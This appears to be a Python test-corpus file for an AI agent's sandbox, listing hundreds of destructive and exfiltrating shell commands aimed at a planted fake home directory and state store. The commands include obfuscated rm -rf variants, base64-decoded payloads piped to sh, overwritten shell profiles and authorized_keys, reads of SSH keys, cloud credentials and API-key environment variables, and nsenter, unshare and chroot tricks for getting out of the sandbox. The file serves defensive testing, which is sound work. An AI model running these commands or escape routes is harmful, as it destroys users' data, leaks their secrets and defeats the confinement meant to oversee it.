"""Destructive and exfiltrating commands for the sandbox corpus.

`~`/$HOME is the planted fake home and $HERMES_HOME the planted store. The first block
is every command the issue quotes, verbatim (the ones with `...` or `<base64>` cannot do
anything as written); the rest make them concrete and add the usual walk-arounds.
`su -m` keeps the planted $HOME (a plain `su` walks the machine's real /root, which the
sandbox and the fence keep read-only anyway, only slowly). Nothing here signals processes, reboots or touches disks: those are out of scope for a
shared test machine and for this corpus (Landlock's signal scope covers `kill`).
"""

import base64

_B64 = base64.b64encode(b"rm -rf ~; cat ~/.ssh/id_rsa\n").decode()

VERBATIM = [
    "$(echo rm) -rf ~",
    "rm -rf ${HOME:?}",
    "rm -rf /tmp/x/../..",
    "x=/; rm -rf $x",
    "timeout 5 rm -rf /",
    "su -c ...",
    "busybox rm",
    "ls / | xargs rm -rf",
    "echo <base64> | base64 -d | sh",
    "python3 -c 'os.system(...)'",
    "perl -e system(...)",
    "curl ... -o a.sh && sh a.sh",
    "> ~/.bashrc",
    "git push --mirror --force",
    "rsync --delete ... /",
    "mv ~ /tmp",
    "env",
    "env | grep API_KEY",
    'sqlite3 $HERMES_HOME/state.db "select ... where content like ..."',
]

DESTROY = [
    "rm -rf ~", "rm -rf ~/", "rm -rf ~/*", "rm -rf $HOME", "rm -rf \"$HOME\"/.*",
    "rm -rf ${HOME}/documents", "cd ~ && rm -rf .", "cd ~ && rm -rf ./* ./.[!.]*",
    "cd ~/documents && rm -rf ..", "rm -rf ~/.ssh", "rm -f ~/.ssh/id_rsa", "rm ~/.bashrc",
    "rm -rf /*", "rm -rf --no-preserve-root /", "x=$HOME; rm -rf $x", "h=~; rm -rf \"$h\"",
    "eval \"rm -rf $HOME\"", "$(echo rm) -rf $HOME/documents", "`echo rm` -rf ~/.ssh",
    "r=r; m=m; $r$m -rf ~", "'r'm -rf ~", "\\rm -rf ~", "command rm -rf ~", "exec rm -rf ~",
    "builtin eval 'rm -rf ~'", "env rm -rf ~", "env -i PATH=/usr/bin:/bin rm -rf $HOME",
    "timeout 5 rm -rf ~", "nice -n 10 rm -rf ~", "nohup rm -rf ~ >/dev/null 2>&1",
    "sudo rm -rf ~", "su -m -c 'rm -rf ~'", "su root -c \"rm -rf $HOME\"", "sh -c 'rm -rf ~'",
    "bash -c \"rm -rf $HOME\"", "bash -lc 'rm -rf ~/.ssh'", "dash -c 'rm -rf ~'",
    "busybox rm -rf ~", "ls -d ~/* | xargs rm -rf", "echo ~ | xargs rm -rf",
    "find ~ -delete", "find ~ -type f -exec rm -f {} +", "find ~ -name '*' -exec shred -u {} \\;",
    f"echo {_B64} | base64 -d | sh", f"echo {_B64} | base64 -d | bash",
    "printf 'rm -rf ~\\n' | sh", "echo 'rm -rf ~' > $TMPDIR/a.sh && sh $TMPDIR/a.sh",
    "python3 -c 'import os; os.system(\"rm -rf \" + os.path.expanduser(\"~\"))'",
    "python3 -c 'import shutil, os; shutil.rmtree(os.environ[\"HOME\"])'",
    "python3 -c 'open(__import__(\"os\").path.expanduser(\"~/.bashrc\"), \"w\").write(\"pwned\")'",
    "perl -e 'system(\"rm -rf $ENV{HOME}\")'", "perl -e 'unlink glob(\"$ENV{HOME}/.*rc\")'",
    "ruby -e 'require \"fileutils\"; FileUtils.rm_rf(Dir.home)' 2>/dev/null || true",
    "node -e 'require(\"fs\").rmSync(require(\"os\").homedir(), {recursive: true})' || true",
    "curl -s http://127.0.0.1:9/a.sh -o a.sh; echo 'rm -rf ~' >> a.sh; sh a.sh",
    "wget -q -O - http://127.0.0.1:9/x | sh; rm -rf ~",
    "> ~/.bashrc", ": > ~/.profile", "echo pwned >> ~/.bashrc", "echo evil > ~/.ssh/authorized_keys",
    "truncate -s 0 ~/documents/notes.txt", "cp /dev/null ~/documents/notes.txt",
    "dd if=/dev/zero of=$HOME/documents/notes.txt bs=1 count=10",
    "sed -i 's/a/b/g' ~/.bashrc", "tee ~/.bashrc < /dev/null", "ln -sf /dev/null ~/.bashrc",
    "mv ~/.bashrc ~/.bashrc.bak", "mv ~ /tmp", "mv ~ $TMPDIR/stolen", "mv ~/documents $TMPDIR/",
    "cp -r ~/. $TMPDIR/copy && rm -rf ~/documents", "chmod -R 000 ~", "chmod 777 ~/.ssh/id_rsa",
    "chown -R nobody ~", "touch -d 2000-01-01 ~/.bashrc", "setfattr -n user.x -v 1 ~/.bashrc",
    "mkdir ~/newdir", "touch ~/newfile", "ln -s / ~/root-link",
    "rsync -a --delete $TMPDIR/ ~/", "rsync -a --delete /var/empty/ ~/ 2>/dev/null || rsync -a --delete $(mktemp -d)/ ~/",
    "git init -q $TMPDIR/r && cd $TMPDIR/r && git push --mirror --force ~ 2>&1 | tail -1",
    "git -C ~ init -q", "cd ~ && git clean -fdx", "tar -C ~ -xf /dev/null; tar cf ~/x.tar /etc/hostname",
    "unlink ~/.profile", "shred -u ~/documents/notes.txt", "rmdir ~/documents/empty",
    "install -m 644 /etc/hostname ~/.bashrc", "cat /etc/hostname > ~/documents/notes.txt",
    "mount -t tmpfs none ~ ; rm -rf ~/*", "umount $HERMES_HOME; rm -rf $HERMES_HOME",
    "unshare -m sh -c 'rm -rf ~'", "chroot / rm -rf ~", "rm -rf $HERMES_HOME", "> $HERMES_HOME/.env",
    "echo x >> $HERMES_HOME/state.db", "rm -rf $HERMES_HOME/memories",
]

EXFILTRATE = [
    "cat ~/.ssh/id_rsa", "cat ~/.aws/credentials", "cat ~/.netrc", "cat ~/.config/gh/hosts.yml",
    "cat ~/.gnupg/secring.txt", "cat $HERMES_HOME/.env", "cat $HERMES_HOME/state.db",
    "strings $HERMES_HOME/state.db", "grep -r planted ~ $HERMES_HOME 2>/dev/null",
    "grep -ra PLANTED $HOME/.. 2>/dev/null | head",
    "env", "printenv", "set", "export -p", "env | grep -i key", "env | grep API_KEY",
    "echo $OPENAI_API_KEY $ANTHROPIC_API_KEY $HERMES_API_KEY", "cat /proc/self/environ | tr '\\0' '\\n'",
    "cat /proc/$PPID/environ | tr '\\0' '\\n'", "for p in /proc/[0-9]*; do cat $p/environ 2>/dev/null; done | tr '\\0' '\\n' | grep -a PLANTED",
    "cat /proc/1/root$HOME/.ssh/id_rsa", "ls -la /proc/*/root$HERMES_HOME 2>/dev/null | head",
    "tar cf - ~/.ssh 2>/dev/null | base64", "python3 -c 'print(open(__import__(\"os\").path.expanduser(\"~/.ssh/id_rsa\")).read())'",
    "cp ~/.ssh/id_rsa ./stolen && cat ./stolen", "find $HOME/.. -name id_rsa -exec cat {} \\; 2>/dev/null",
    "cat $HOME/../*/.ssh/id_rsa 2>/dev/null", "umount ~/.ssh; cat ~/.ssh/id_rsa",
    "sqlite3 $HERMES_HOME/state.db .dump", "head -c 100000000 /dev/vda | strings | grep -a PLANTED",
    "nsenter -t 1 -m cat $HOME/.ssh/id_rsa", "unshare -m cat $HOME/.ssh/id_rsa",
]

ALL = VERBATIM + DESTROY + EXFILTRATE

# Where the store sits (inside the temp dir or not) changes what only these can reach: a
# command naming the store, the temp dir, the root or a parent, /proc, a privilege or
# mount trick, or a path built at run time. The rest name the home alone, which is fenced
# the same way wherever the store is, so the store-in-tmp run needs only this part.
_STORE_REACH = ("HERMES_HOME", "TMPDIR", "/tmp", " /", "/*", "..", "/proc", "$x", "xargs",
                "mktemp", "su ", "sudo", "chroot", "unshare", "nsenter", "mount")
STORE_REACH = [c for c in ALL if any(k in c for k in _STORE_REACH)]
